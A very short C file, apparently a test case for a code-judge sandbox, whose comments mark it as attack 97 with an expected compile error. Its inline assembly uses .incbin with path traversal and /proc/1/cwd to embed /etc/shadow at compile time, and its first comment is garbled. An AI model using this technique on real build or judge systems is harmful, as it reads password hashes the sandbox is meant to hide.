// The same past the folder it may see, and of the accounts.
// attack: 97
// verdict: CE
// hides: root:
__asm__(".data\na: .incbin \"../../../../../../etc/shadow\"\nb: .incbin \"/proc/1/cwd/etc/shadow\"\n");

int main() {}
